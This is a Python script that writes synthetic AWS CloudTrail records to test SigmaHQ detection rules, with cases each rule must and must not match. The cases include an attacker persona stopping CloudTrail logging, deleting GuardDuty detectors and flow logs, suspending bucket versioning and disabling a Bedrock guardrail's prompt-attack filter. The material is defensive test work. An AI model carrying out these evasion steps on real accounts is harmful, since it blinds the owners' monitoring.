#!/usr/bin/env python3
"""Writes fixtures.json: CloudTrail records each SigmaHQ rule must match, and must not.

For every rule in `rules/` (SigmaHQ's CloudTrail rules, verbatim), `fixtures.json` maps the
rule's `id` to `match` (records the rule must match: the activity its title and
description name) and `no_match` (close records it must not match: the benign twin, the
failed call, the neighbouring API), plus `note` where the rule as written differs from what
its author describes. `tests/sigmahq/mod.rs` replays them through `vigil_detect`.

The records are written by hand below from how AWS writes CloudTrail records (complete
envelopes: eventVersion, userIdentity, eventTime, eventSource, eventName, awsRegion,
sourceIPAddress, userAgent, requestParameters, responseElements, requestID, eventID,
readOnly, eventType, managementEvent, recipientAccountId, eventCategory; EC2's `items`
wrappers; the shapes of each service's parameters). Nothing here reads a rule's
`detection`: only its `id`, to key the file. The envelope helpers fill in what every record
carries; identifiers are derived from the rule and position, so running this again writes
the same file byte for byte. Standard library only:

    python3 detect/tests/sigmahq/fixtures.py

Never edit fixtures.json by hand: change this script and run it again.
"""

from __future__ import annotations

import json
import re
import uuid
from datetime import UTC, datetime, timedelta
from pathlib import Path

HERE = Path(__file__).resolve().parent
OUT = HERE / "fixtures.json"
RULES = HERE / "rules"

ACCOUNT = "111122223333"
OUTSIDE = "999988887777"
REGION = "eu-west-1"
OFFICE_IP = "203.0.113.24"
ATTACKER_IP = "198.51.100.203"
START = datetime(2025, 3, 4, 9, 0, tzinfo=UTC)

CLI = (
    "aws-cli/2.15.30 md/awscrt#0.19.19 ua/2.0 os/linux#6.5.0-1016-aws md/arch#x86_64 "
    "lang/python#3.11.8 md/pyimpl#CPython cfg/retry-mode#standard md/installer#exe "
    "md/distrib#ubuntu.22 md/prompt#off"
)
BOTO3 = (
    "Boto3/1.34.69 md/Botocore#1.34.69 ua/2.0 os/linux#6.5.0 md/arch#x86_64 "
    "lang/python#3.12.2 md/pyimpl#CPython cfg/retry-mode#legacy Botocore/1.34.69"
)
TERRAFORM = (
    "APN/1.0 HashiCorp/1.0 Terraform/1.7.5 (+https://www.terraform.io) "
    "terraform-provider-aws/5.42.0 (+https://registry.terraform.io/providers/hashicorp/aws) "
    "aws-sdk-go-v2/1.26.0 os/linux lang/go#1.22.1 md/GOOS#linux md/GOARCH#amd64"
)
BROWSER = (
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/122.0.0.0 Safari/537.36"
)
CONSOLE = "AWS Internal"
S3_BROWSER = "S3 Browser 11.5.7 https://s3browser.com"
TRUFFLEHOG = "TruffleHog"

# ---------------------------------------------------------------------------------------
# Identities, as CloudTrail writes userIdentity


def iam_user(name: str = "alice", key: str = "AKIAIOSFODNN7EXAMPLE") -> dict:
    return {
        "type": "IAMUser",
        "principalId": "AIDA" + uuid.uuid5(uuid.NAMESPACE_DNS, name).hex[:17].upper(),
        "arn": f"arn:aws:iam::{ACCOUNT}:user/{name}",
        "accountId": ACCOUNT,
        "accessKeyId": key,
        "userName": name,
    }


def role_session(role: str, session: str, *, path: str = "", mfa: bool = False) -> dict:
    role_id = "AROA" + uuid.uuid5(uuid.NAMESPACE_DNS, role).hex[:17].upper()
    return {
        "type": "AssumedRole",
        "principalId": f"{role_id}:{session}",
        "arn": f"arn:aws:sts::{ACCOUNT}:assumed-role/{role}/{session}",
        "accountId": ACCOUNT,
        "accessKeyId": "ASIA" + uuid.uuid5(uuid.NAMESPACE_DNS, session).hex[:16].upper(),
        "sessionContext": {
            "sessionIssuer": {
                "type": "Role",
                "principalId": role_id,
                "arn": f"arn:aws:iam::{ACCOUNT}:role/{path}{role}",
                "accountId": ACCOUNT,
                "userName": role,
            },
            "webIdFederationData": {},
            "attributes": {
                "creationDate": "2025-03-04T08:41:07Z",
                "mfaAuthenticated": "true" if mfa else "false",
            },
        },
    }


def sso(person: str = "alice@example.com") -> dict:
    return role_session(
        "AWSReservedSSO_AdministratorAccess_3b1c4f0e5d2a7968",
        person,
        path="aws-reserved/sso.amazonaws.com/eu-west-1/",
    )


def root() -> dict:
    return {
        "type": "Root",
        "principalId": ACCOUNT,
        "arn": f"arn:aws:iam::{ACCOUNT}:root",
        "accountId": ACCOUNT,
        "accessKeyId": "ASIAQ3EGUXLKZ7EXAMPLE",
    }


def aws_service(service: str) -> dict:
    return {"type": "AWSService", "invokedBy": service}


# ---------------------------------------------------------------------------------------
# Records

_count = 0


def record(
    source: str,
    name: str,
    identity: dict,
    request: dict | None,
    response: dict | None = None,
    *,
    region: str = REGION,
    ip: str = OFFICE_IP,
    agent: str = CLI,
    read_only: bool = False,
    error: tuple[str, str] | None = None,
    extra: dict | None = None,
    resources: list | None = None,
    event_type: str = "AwsApiCall",
    data: bool = False,
) -> dict:
    """A complete record in CloudTrail's own key order."""
    global _count
    _count += 1
    r: dict = {
        "eventVersion": "1.09" if event_type == "AwsApiCall" else "1.08",
        "userIdentity": identity,
        "eventTime": (START + timedelta(minutes=7 * _count)).strftime("%Y-%m-%dT%H:%M:%SZ"),
        "eventSource": source,
        "eventName": name,
        "awsRegion": region,
        "sourceIPAddress": ip,
        "userAgent": agent,
    }
    if error:
        r["errorCode"], r["errorMessage"] = error
    r["requestParameters"] = request
    r["responseElements"] = None if error else response
    for k, v in (extra or {}).items():
        r[k] = v
    r["requestID"] = str(uuid.uuid5(uuid.NAMESPACE_URL, f"request/{_count}"))
    r["eventID"] = str(uuid.uuid5(uuid.NAMESPACE_URL, f"event/{_count}"))
    r["readOnly"] = read_only
    if resources is not None:
        r["resources"] = resources
    r["eventType"] = event_type
    r["managementEvent"] = not data
    r["recipientAccountId"] = ACCOUNT
    r["eventCategory"] = "Data" if data else "Management"
    if event_type == "AwsApiCall" and ip not in (CONSOLE,) and not ip.endswith(".amazonaws.com"):
        r["tlsDetails"] = {
            "tlsVersion": "TLSv1.3",
            "cipherSuite": "TLS_AES_128_GCM_SHA256",
            "clientProvidedHostHeader": f"{source.split('.')[0]}.{region}.amazonaws.com",
        }
    return r


def ec2(name: str, identity: dict, request: dict, response: dict | None = None, **kw) -> dict:
    """EC2 records: the query API's responses carry requestId and the xmlns."""
    if response is not None and "requestId" not in response:
        response = {"requestId": str(uuid.uuid5(uuid.NAMESPACE_URL, f"ec2/{name}/{_count}")), **response}
    return record("ec2.amazonaws.com", name, identity, request, response, **kw)


def s3(name: str, identity: dict, bucket: str, request: dict | None = None, **kw) -> dict:
    req = {"bucketName": bucket, "Host": f"{bucket}.s3.{REGION}.amazonaws.com", **(request or {})}
    extra = {
        "additionalEventData": {
            "SignatureVersion": "SigV4",
            "CipherSuite": "TLS_AES_128_GCM_SHA256",
            "bytesTransferredIn": 0,
            "AuthenticationMethod": "AuthHeader",
            "x-amz-id-2": "Zm9vYmFyYmF6cXV4RVhBTVBMRQ==",
            "bytesTransferredOut": 0,
        }
    }
    resources = [{"accountId": ACCOUNT, "type": "AWS::S3::Bucket", "ARN": f"arn:aws:s3:::{bucket}"}]
    return record("s3.amazonaws.com", name, identity, req, None, extra=extra, resources=resources, **kw)


def console_login(identity: dict, *, ok: bool, mfa: str, ip: str = OFFICE_IP) -> dict:
    return record(
        "signin.amazonaws.com",
        "ConsoleLogin",
        identity,
        None,
        {"ConsoleLogin": "Success" if ok else "Failure"},
        region="us-east-1",
        ip=ip,
        agent=BROWSER,
        error=None if ok else ("", ""),
        extra={
            "additionalEventData": {
                "LoginTo": "https://console.aws.amazon.com/console/home?state=hashArgs%23&isauthcode=true",
                "MobileVersion": "No",
                "MFAUsed": mfa,
            }
        },
        event_type="AwsConsoleSignIn",
    )


def failed_console_login(user: str) -> dict:
    r = console_login(
        {
            "type": "IAMUser",
            "principalId": "AIDA" + uuid.uuid5(uuid.NAMESPACE_DNS, user).hex[:17].upper(),
            "accountId": ACCOUNT,
            "accessKeyId": "",
            "userName": user,
        },
        ok=False,
        mfa="No",
        ip=ATTACKER_IP,
    )
    del r["errorCode"]
    r["errorMessage"] = "Failed authentication"
    r["responseElements"] = {"ConsoleLogin": "Failure"}
    return r


def deny(code: str = "AccessDenied", what: str = "") -> tuple[str, str]:
    return code, f"User: arn:aws:iam::{ACCOUNT}:user/alice is not authorized to perform: {what}"


POLICY_TEMPLATE = json.dumps(
    {
        "Statement": [
            {
                "Effect": "Allow",
                "Action": ["s3:ListBucket", "s3:GetBucketLocation"],
                "Resource": "arn:aws:s3:::<YOUR-BUCKET-NAME>",
            },
            {
                "Effect": "Allow",
                "Action": ["s3:PutObject", "s3:GetObject", "s3:DeleteObject"],
                "Resource": "arn:aws:s3:::<YOUR-BUCKET-NAME>/*",
            },
        ]
    }
)


def instance_export(error: tuple[str, str] | None) -> dict:
    return ec2(
        "CreateInstanceExportTask",
        sso(),
        {
            "instanceId": "i-0a1b2c3d4e5f60718",
            "targetEnvironment": "vmware",
            "exportToS3": {
                "diskImageFormat": "VMDK",
                "containerFormat": "ova",
                "s3Bucket": "exports-7731",
                "s3Prefix": "vms/",
            },
        },
        {
            "exportTask": {
                "exportTaskId": "export-i-0f1e2d3c4b5a69788",
                "instanceExport": {"instanceId": "i-0a1b2c3d4e5f60718", "targetEnvironment": "vmware"},
                "state": "active",
                "exportToS3": {
                    "diskImageFormat": "vmdk",
                    "containerFormat": "ova",
                    "s3Bucket": "exports-7731",
                    "s3Key": "vms/export-i-0f1e2d3c4b5a69788.ova",
                },
            }
        },
        error=error,
    )


def guardrail(name: str, request: dict, response: dict | None, **kw) -> dict:
    return record("bedrock.amazonaws.com", name, sso(), request, response, **kw)


def sg_ingress(name: str, cidr: str) -> dict:
    return ec2(
        name,
        sso(),
        {
            "groupId": "sg-0a1b2c3d4e5f60718",
            "ipPermissions": {
                "items": [
                    {
                        "ipProtocol": "tcp",
                        "fromPort": 443,
                        "toPort": 443,
                        "groups": {},
                        "ipRanges": {"items": [{"cidrIp": cidr, "description": "office"}]},
                        "ipv6Ranges": {},
                        "prefixListIds": {},
                    }
                ]
            },
        },
        {
            "_return": True,
            "securityGroupRuleSet": {
                "items": [
                    {
                        "groupOwnerId": ACCOUNT,
                        "groupId": "sg-0a1b2c3d4e5f60718",
                        "securityGroupRuleId": "sgr-0f1e2d3c4b5a69788",
                        "isEgress": name.endswith("Egress"),
                        "ipProtocol": "tcp",
                        "fromPort": 443,
                        "toPort": 443,
                        "cidrIpv4": cidr,
                    }
                ]
            },
        },
        agent=TERRAFORM,
    )


def send_command(error: tuple[str, str] | None) -> dict:
    return record(
        "ssm.amazonaws.com",
        "SendCommand",
        iam_user("deploy-bot"),
        {
            "instanceIds": ["i-0a1b2c3d4e5f60718"],
            "documentName": "AWS-RunShellScript",
            "parameters": "HIDDEN_DUE_TO_SECURITY_REASONS",
            "interactive": False,
        },
        {
            "command": {
                "commandId": "9f3c2b1a-0d4e-4f5a-8b6c-7d8e9f0a1b2c",
                "documentName": "AWS-RunShellScript",
                "documentVersion": "$DEFAULT",
                "comment": "",
                "expiresAfter": "Mar 4, 2025, 11:00:00 AM",
                "parameters": "HIDDEN_DUE_TO_SECURITY_REASONS",
                "instanceIds": ["i-0a1b2c3d4e5f60718"],
                "targets": [],
                "requestedDateTime": "Mar 4, 2025, 9:00:00 AM",
                "status": "Pending",
                "statusDetails": "Pending",
                "outputS3Region": "eu-west-1",
                "outputS3BucketName": "",
                "outputS3KeyPrefix": "",
                "maxConcurrency": "50",
                "maxErrors": "0",
                "targetCount": 1,
                "completedCount": 0,
                "errorCount": 0,
                "deliveryTimedOutCount": 0,
                "serviceRole": "",
                "notificationConfig": {"notificationArn": "", "notificationEvents": [], "notificationType": ""},
                "cloudWatchOutputConfig": {"cloudWatchLogGroupName": "", "cloudWatchOutputEnabled": False},
                "interactive": False,
                "timeoutSeconds": 3600,
            }
        },
        ip=ATTACKER_IP,
        agent=BOTO3,
        error=error,
    )


def delete_flow_logs(error: tuple[str, str] | None) -> dict:
    return ec2(
        "DeleteFlowLogs",
        iam_user("mallory"),
        {"DeleteFlowLogsRequest": {"FlowLogId": {"content": "fl-0a1b2c3d4e5f60718", "tag": 1}}},
        {
            "DeleteFlowLogsResponse": {
                "xmlns": "http://ec2.amazonaws.com/doc/2016-11-15/",
                "requestId": "6a1f3b0c-5d2e-4c1b-9a8f-7e6d5c4b3a29",
                "unsuccessful": "",
            }
        },
        ip=ATTACKER_IP,
        error=error,
    )


def task_definition(name: str, command: list[str], read_only: bool = False) -> dict:
    request = {
        "family": "reporting",
        "containerDefinitions": [
            {
                "name": "app",
                "image": f"{ACCOUNT}.dkr.ecr.eu-west-1.amazonaws.com/reporting:1.4.2",
                "cpu": 256,
                "memory": 512,
                "essential": True,
                "command": command,
                "logConfiguration": {
                    "logDriver": "awslogs",
                    "options": {"awslogs-group": "/ecs/reporting", "awslogs-region": "eu-west-1"},
                },
            }
        ],
        "taskRoleArn": f"arn:aws:iam::{ACCOUNT}:role/reporting-task",
        "executionRoleArn": f"arn:aws:iam::{ACCOUNT}:role/ecsTaskExecutionRole",
        "networkMode": "awsvpc",
        "requiresCompatibilities": ["FARGATE"],
        "cpu": "256",
        "memory": "512",
    }
    response = {
        "taskDefinition": {
            "taskDefinitionArn": f"arn:aws:ecs:eu-west-1:{ACCOUNT}:task-definition/reporting:7",
            "family": "reporting",
            "revision": 7,
            "status": "ACTIVE",
            "containerDefinitions": request["containerDefinitions"],
        }
    }
    return record("ecs.amazonaws.com", name, iam_user("mallory"), request, response, ip=ATTACKER_IP, agent=BOTO3, read_only=read_only)


def modify_db(pending: dict, request_extra: dict) -> dict:
    return record(
        "rds.amazonaws.com",
        "ModifyDBInstance",
        sso(),
        {"dBInstanceIdentifier": "orders-db", "applyImmediately": True, **request_extra},
        {
            "dBInstanceIdentifier": "orders-db",
            "dBInstanceClass": "db.r6g.large",
            "engine": "postgres",
            "dBInstanceStatus": "available",
            "masterUsername": "postgres",
            "endpoint": {"address": "orders-db.c9akciq32.eu-west-1.rds.amazonaws.com", "port": 5432},
            "publiclyAccessible": False,
            "pendingModifiedValues": pending,
            "dBInstanceArn": f"arn:aws:rds:eu-west-1:{ACCOUNT}:db:orders-db",
        },
    )


def restore_db(public: bool) -> dict:
    return record(
        "rds.amazonaws.com",
        "RestoreDBInstanceFromDBSnapshot",
        iam_user("mallory"),
        {
            "dBInstanceIdentifier": "orders-copy",
            "dBSnapshotIdentifier": "rds:orders-db-2025-03-03-03-10",
            "dBInstanceClass": "db.t3.medium",
            "publiclyAccessible": public,
            "vpcSecurityGroupIds": ["sg-0a1b2c3d4e5f60718"],
        },
        {
            "dBInstanceIdentifier": "orders-copy",
            "dBInstanceClass": "db.t3.medium",
            "engine": "postgres",
            "dBInstanceStatus": "creating",
            "masterUsername": "postgres",
            "publiclyAccessible": public,
            "storageEncrypted": True,
            "dBInstanceArn": f"arn:aws:rds:eu-west-1:{ACCOUNT}:db:orders-copy",
        },
        ip=ATTACKER_IP,
    )


def update_function_configuration(request_extra: dict) -> dict:
    return record(
        "lambda.amazonaws.com",
        "UpdateFunctionConfiguration20150331v2",
        iam_user("mallory"),
        {"functionName": "orders-api", **request_extra},
        {
            "functionName": "orders-api",
            "functionArn": f"arn:aws:lambda:eu-west-1:{ACCOUNT}:function:orders-api",
            "runtime": "python3.12",
            "role": f"arn:aws:iam::{ACCOUNT}:role/orders-api",
            "handler": "app.handler",
            "codeSize": 18321,
            "timeout": request_extra.get("timeout", 15),
            "memorySize": 256,
            "lastModified": "2025-03-04T09:12:44.000+0000",
            "version": "$LATEST",
            "state": "Active",
            "lastUpdateStatus": "InProgress",
            **({"layers": [{"arn": l, "codeSize": 1024} for l in request_extra["layers"]]} if "layers" in request_extra else {}),
        },
        ip=ATTACKER_IP,
        agent=BOTO3,
    )


def sso_directory(name: str, source: str = "sso-directory.amazonaws.com", read_only: bool = False) -> dict:
    return record(
        source,
        name,
        sso(),
        {"directoryId": "d-93670b2c1f"} if source == "sso-directory.amazonaws.com" else {"instanceArn": "arn:aws:sso:::instance/ssoins-6804a1b2c3d4e5f6"},
        None,
        agent=CONSOLE,
        read_only=read_only,
    )


# ---------------------------------------------------------------------------------------
# The cases, by rule file

CASES: dict[str, dict] = {
    "aws_cloudtrail_bedrock_guardrail_deleted.yml": {
        "match": [guardrail("DeleteGuardrail", {"guardrailIdentifier": "gr7k2m9x1q4z"}, None)],
        "no_match": [
            guardrail("GetGuardrail", {"guardrailIdentifier": "gr7k2m9x1q4z", "guardrailVersion": "DRAFT"}, None, read_only=True),
            guardrail("DeleteModelInvocationLoggingConfiguration", None, None),
        ],
    },
    "aws_cloudtrail_bedrock_guardrail_updated.yml": {
        "match": [
            guardrail(
                "UpdateGuardrail",
                {
                    "guardrailIdentifier": "gr7k2m9x1q4z",
                    "name": "customer-chat",
                    "blockedInputMessaging": "***",
                    "blockedOutputsMessaging": "***",
                    "contentPolicyConfig": {"filtersConfig": [{"type": "PROMPT_ATTACK", "inputStrength": "NONE", "outputStrength": "NONE"}]},
                },
                {"guardrailId": "gr7k2m9x1q4z", "guardrailArn": f"arn:aws:bedrock:eu-west-1:{ACCOUNT}:guardrail/gr7k2m9x1q4z", "version": "DRAFT", "updatedAt": "2025-03-04T09:30:00Z"},
            )
        ],
        "no_match": [
            guardrail("CreateGuardrailVersion", {"guardrailIdentifier": "gr7k2m9x1q4z", "description": "release 3"}, {"guardrailId": "gr7k2m9x1q4z", "version": "3"}),
        ],
    },
    "aws_cloudtrail_bucket_deleted.yml": {
        "match": [s3("DeleteBucket", iam_user("mallory"), "billing-exports-7731", ip=ATTACKER_IP)],
        "no_match": [
            s3("DeleteBucket", iam_user("mallory"), "billing-exports-7731", ip=ATTACKER_IP, error=("BucketNotEmpty", "The bucket you tried to delete is not empty")),
            s3("DeleteBucketPolicy", iam_user("mallory"), "billing-exports-7731", {"policy": ""}, ip=ATTACKER_IP),
        ],
    },
    "aws_cloudtrail_console_login_failed_authentication.yml": {
        "match": [failed_console_login("alice")],
        "no_match": [console_login(iam_user("alice"), ok=True, mfa="Yes")],
    },
    "aws_cloudtrail_console_login_success_without_mfa.yml": {
        "match": [console_login(iam_user("alice"), ok=True, mfa="No", ip=ATTACKER_IP)],
        "no_match": [
            console_login(iam_user("alice"), ok=True, mfa="Yes"),
            failed_console_login("alice"),
        ],
    },
    "aws_cloudtrail_disable_logging.yml": {
        "match": [
            record("cloudtrail.amazonaws.com", "StopLogging", iam_user("mallory"), {"name": f"arn:aws:cloudtrail:eu-west-1:{ACCOUNT}:trail/org-trail"}, None, ip=ATTACKER_IP),
            record("cloudtrail.amazonaws.com", "DeleteTrail", iam_user("mallory"), {"name": "org-trail"}, None, ip=ATTACKER_IP),
            record(
                "cloudtrail.amazonaws.com",
                "UpdateTrail",
                sso(),
                {"name": "org-trail", "isMultiRegionTrail": False},
                {"name": "org-trail", "s3BucketName": "org-trail-logs", "isMultiRegionTrail": False, "trailARN": f"arn:aws:cloudtrail:eu-west-1:{ACCOUNT}:trail/org-trail", "logFileValidationEnabled": True, "isOrganizationTrail": False},
            ),
        ],
        "no_match": [
            record("cloudtrail.amazonaws.com", "StartLogging", sso(), {"name": f"arn:aws:cloudtrail:eu-west-1:{ACCOUNT}:trail/org-trail"}, None),
            record("cloudtrail.amazonaws.com", "GetTrailStatus", sso(), {"name": "org-trail"}, None, read_only=True),
        ],
    },
    "aws_cloudtrail_guardduty_detector_deleted_or_updated.yml": {
        "match": [
            record("guardduty.amazonaws.com", "DeleteDetector", iam_user("mallory"), {"detectorId": "12abc34d567e8fa901bc2d34e56789f0"}, None, ip=ATTACKER_IP),
            record("guardduty.amazonaws.com", "UpdateDetector", iam_user("mallory"), {"detectorId": "12abc34d567e8fa901bc2d34e56789f0", "enable": False}, None, ip=ATTACKER_IP),
        ],
        "no_match": [
            record("guardduty.amazonaws.com", "UpdateDetector", sso(), {"detectorId": "12abc34d567e8fa901bc2d34e56789f0", "enable": True, "findingPublishingFrequency": "FIFTEEN_MINUTES"}, None),
            record("guardduty.amazonaws.com", "DeleteDetector", iam_user("mallory"), {"detectorId": "12abc34d567e8fa901bc2d34e56789f0"}, None, ip=ATTACKER_IP, error=deny("AccessDeniedException", "guardduty:DeleteDetector")),
        ],
    },
    "aws_cloudtrail_imds_malicious_usage.yml": {
        "match": [
            s3("ListBuckets", role_session("aws:ec2-instance", "i-0a1b2c3d4e5f60718"), "", ip=ATTACKER_IP, agent=CLI, read_only=True)
            | {"requestParameters": {"Host": "s3.eu-west-1.amazonaws.com"}, "resources": []},
        ],
        "no_match": [
            record(
                "ssm.amazonaws.com",
                "UpdateInstanceInformation",
                role_session("aws:ec2-instance", "i-0a1b2c3d4e5f60718"),
                {"instanceId": "i-0a1b2c3d4e5f60718", "agentVersion": "3.3.40.0", "agentStatus": "Active", "platformType": "Linux", "platformName": "Amazon Linux", "platformVersion": "2023", "iPAddress": "10.0.1.17", "computerName": "ip-10-0-1-17.eu-west-1.compute.internal", "agentName": "amazon-ssm-agent", "availabilityZone": "eu-west-1a", "availabilityZoneId": "euw1-az1"},
                None,
                ip="54.170.12.34",
                agent="aws-sdk-go/1.44.260 (go1.20.10; linux; amd64) amazon-ssm-agent/3.3.40.0",
            ),
            s3("ListBuckets", role_session("web-app", "i-0a1b2c3d4e5f60718"), "", ip="54.170.12.34", read_only=True)
            | {"requestParameters": {"Host": "s3.eu-west-1.amazonaws.com"}, "resources": []},
        ],
    },
    "aws_cloudtrail_new_acl_entries.yml": {
        "match": [
            ec2(
                "CreateNetworkAclEntry",
                sso(),
                {"networkAclId": "acl-0a1b2c3d4e5f60718", "ruleNumber": 90, "egress": False, "ruleAction": "allow", "icmpTypeCode": {}, "portRange": {"from": 22, "to": 22}, "aclProtocol": "6", "cidrBlock": "0.0.0.0/0"},
                {"_return": True},
            )
        ],
        "no_match": [
            ec2("DeleteNetworkAclEntry", sso(), {"networkAclId": "acl-0a1b2c3d4e5f60718", "ruleNumber": 90, "egress": False}, {"_return": True}),
        ],
    },
    "aws_cloudtrail_new_route_added.yml": {
        "match": [
            ec2("CreateRoute", sso(), {"routeTableId": "rtb-0a1b2c3d4e5f60718", "destinationCidrBlock": "0.0.0.0/0", "gatewayId": "igw-0f1e2d3c4b5a69788"}, {"_return": True}),
        ],
        "no_match": [
            ec2("DeleteRoute", sso(), {"routeTableId": "rtb-0a1b2c3d4e5f60718", "destinationCidrBlock": "10.8.0.0/16"}, {"_return": True}),
            ec2("CreateRouteTable", sso(), {"vpcId": "vpc-0a1b2c3d4e5f60718"}, {"routeTable": {"routeTableId": "rtb-0b2c3d4e5f6071829", "vpcId": "vpc-0a1b2c3d4e5f60718", "routeSet": {"items": [{"destinationCidrBlock": "10.0.0.0/16", "gatewayId": "local", "state": "active", "origin": "CreateRouteTable"}]}, "associationSet": {}, "tagSet": {}, "ownerId": ACCOUNT}}, agent=TERRAFORM),
        ],
    },
    "aws_cloudtrail_pua_trufflehog.yml": {
        "match": [
            record("sts.amazonaws.com", "GetCallerIdentity", iam_user("ci-legacy", "AKIA2OGYBAH6STEXAMPLE"), None, {"userId": "AIDA2OGYBAH6EXAMPLE", "account": ACCOUNT, "arn": f"arn:aws:iam::{ACCOUNT}:user/ci-legacy"}, ip=ATTACKER_IP, agent=TRUFFLEHOG, read_only=True),
        ],
        "no_match": [
            record("sts.amazonaws.com", "GetCallerIdentity", iam_user("ci-legacy", "AKIA2OGYBAH6STEXAMPLE"), None, {"userId": "AIDA2OGYBAH6EXAMPLE", "account": ACCOUNT, "arn": f"arn:aws:iam::{ACCOUNT}:user/ci-legacy"}, agent=CLI, read_only=True),
        ],
    },
    "aws_cloudtrail_region_enabled.yml": {
        "match": [record("account.amazonaws.com", "EnableRegion", iam_user("mallory"), {"RegionName": "af-south-1"}, None, region="us-east-1", ip=ATTACKER_IP)],
        "no_match": [record("account.amazonaws.com", "DisableRegion", sso(), {"RegionName": "af-south-1"}, None, region="us-east-1")],
    },
    "aws_cloudtrail_security_group_change_ingress_egress.yml": {
        "match": [sg_ingress("AuthorizeSecurityGroupIngress", "203.0.113.0/24"), sg_ingress("RevokeSecurityGroupEgress", "0.0.0.0/0")],
        "no_match": [
            ec2("DescribeSecurityGroups", sso(), {"securityGroupSet": {}, "securityGroupIdSet": {"items": [{"groupId": "sg-0a1b2c3d4e5f60718"}]}, "filterSet": {}}, None, read_only=True),
            ec2("CreateSecurityGroup", sso(), {"groupName": "web", "groupDescription": "web tier", "vpcId": "vpc-0a1b2c3d4e5f60718"}, {"_return": True, "groupId": "sg-0b2c3d4e5f6071829"}, agent=TERRAFORM),
        ],
    },
    "aws_cloudtrail_security_group_change_loadbalancer.yml": {
        "match": [
            record(
                "elasticloadbalancing.amazonaws.com",
                "SetSecurityGroups",
                sso(),
                {"loadBalancerArn": f"arn:aws:elasticloadbalancing:eu-west-1:{ACCOUNT}:loadbalancer/app/web/50dc6c495c0c9188", "securityGroups": ["sg-0a1b2c3d4e5f60718"]},
                {"securityGroupIds": ["sg-0a1b2c3d4e5f60718"]},
            ),
            record("elasticloadbalancing.amazonaws.com", "ApplySecurityGroupsToLoadBalancer", sso(), {"loadBalancerName": "classic-web", "securityGroups": ["sg-0a1b2c3d4e5f60718"]}, {"securityGroups": ["sg-0a1b2c3d4e5f60718"]}),
        ],
        "no_match": [
            record(
                "elasticloadbalancing.amazonaws.com",
                "ModifyLoadBalancerAttributes",
                sso(),
                {"loadBalancerArn": f"arn:aws:elasticloadbalancing:eu-west-1:{ACCOUNT}:loadbalancer/app/web/50dc6c495c0c9188", "attributes": [{"key": "idle_timeout.timeout_seconds", "value": "120"}]},
                {"attributes": [{"key": "idle_timeout.timeout_seconds", "value": "120"}]},
            ),
        ],
    },
    "aws_cloudtrail_security_group_change_rds.yml": {
        "match": [
            record("rds.amazonaws.com", "AuthorizeDBSecurityGroupIngress", sso(), {"dBSecurityGroupName": "legacy-db", "cIDRIP": "0.0.0.0/0"}, {"ownerId": ACCOUNT, "dBSecurityGroupName": "legacy-db", "iPRanges": [{"status": "authorizing", "cIDRIP": "0.0.0.0/0"}]}),
        ],
        "no_match": [
            modify_db({}, {"vpcSecurityGroupIds": ["sg-0a1b2c3d4e5f60718"]}),
        ],
    },
    "aws_cloudtrail_ssm_malicious_usage.yml": {
        "match": [send_command(None)],
        "no_match": [send_command(("InvalidInstanceId", "Instances [[i-0a1b2c3d4e5f60718]] not in a valid state for account " + ACCOUNT))],
    },
    "aws_cloudtrail_vpc_flow_logs_deleted.yml": {
        "match": [delete_flow_logs(None)],
        "no_match": [delete_flow_logs(("Client.UnauthorizedOperation", "You are not authorized to perform this operation."))],
    },
    "aws_config_disable_recording.yml": {
        "match": [
            record("config.amazonaws.com", "StopConfigurationRecorder", iam_user("mallory"), {"configurationRecorderName": "default"}, None, ip=ATTACKER_IP),
            record("config.amazonaws.com", "DeleteDeliveryChannel", iam_user("mallory"), {"deliveryChannelName": "default"}, None, ip=ATTACKER_IP),
        ],
        "no_match": [
            record("config.amazonaws.com", "StartConfigurationRecorder", sso(), {"configurationRecorderName": "default"}, None),
            record("config.amazonaws.com", "PutDeliveryChannel", sso(), {"deliveryChannel": {"name": "default", "s3BucketName": "config-bucket-111122223333"}}, None),
        ],
    },
    "aws_console_getsignintoken.yml": {
        "match": [
            record(
                "signin.amazonaws.com",
                "GetSigninToken",
                {"type": "FederatedUser", "principalId": f"{ACCOUNT}:aws_consoler", "arn": f"arn:aws:sts::{ACCOUNT}:federated-user/aws_consoler", "accountId": ACCOUNT, "accessKeyId": "ASIAQ3EGVFHZ7EXAMPLE", "sessionContext": {"sessionIssuer": {"type": "IAMUser", "principalId": "AIDAQ3EGVFHZEXAMPLE", "arn": f"arn:aws:iam::{ACCOUNT}:user/ci-legacy", "accountId": ACCOUNT, "userName": "ci-legacy"}, "webIdFederationData": {}, "attributes": {"creationDate": "2025-03-04T09:01:00Z", "mfaAuthenticated": "false"}}},
                None,
                {"GetSigninToken": "Success"},
                region="us-east-1",
                ip=ATTACKER_IP,
                agent="python-requests/2.31.0",
                extra={"additionalEventData": {"MobileVersion": "No"}},
                event_type="AwsConsoleSignIn",
            )
        ],
        "no_match": [
            record(
                "signin.amazonaws.com",
                "GetSigninToken",
                role_session("AWSReservedSSO_ReadOnly_6f1e2d3c4b5a6978", "bob@example.com", path="aws-reserved/sso.amazonaws.com/eu-west-1/"),
                None,
                {"GetSigninToken": "Success"},
                region="us-east-1",
                agent="Jersey/${project.version} (HttpUrlConnection 17.0.10)",
                extra={"additionalEventData": {"MobileVersion": "No"}},
                event_type="AwsConsoleSignIn",
            )
        ],
    },
    "aws_delete_identity.yml": {
        "match": [record("ses.amazonaws.com", "DeleteIdentity", iam_user("mallory"), {"identity": "mail.example.com"}, None, ip=ATTACKER_IP)],
        "no_match": [record("ses.amazonaws.com", "VerifyDomainIdentity", sso(), {"domain": "mail.example.com"}, {"verificationToken": "QTKknzFg2J4ygwa+XvHAxUl1hyHoY0gVfZdfjIedHZ0="})],
    },
    "aws_delete_saml_provider.yml": {
        "match": [],
        "no_match": [
            record("iam.amazonaws.com", "DeleteSAMLProvider", iam_user("mallory"), {"sAMLProviderArn": f"arn:aws:iam::{ACCOUNT}:saml-provider/Okta"}, None, region="us-east-1", ip=ATTACKER_IP),
        ],
        "note": "The rule requires `status: success`; CloudTrail records have no `status` field, so it matches no CloudTrail record. The no_match record is the deletion its author describes.",
    },
    "aws_disable_bucket_versioning.yml": {
        "match": [s3("PutBucketVersioning", iam_user("mallory"), "billing-exports-7731", {"versioning": "", "VersioningConfiguration": {"Status": "Suspended", "xmlns": "http://s3.amazonaws.com/doc/2006-03-01/"}}, ip=ATTACKER_IP)],
        "no_match": [s3("PutBucketVersioning", sso(), "billing-exports-7731", {"versioning": "", "VersioningConfiguration": {"Status": "Enabled", "xmlns": "http://s3.amazonaws.com/doc/2006-03-01/"}}, agent=TERRAFORM)],
    },
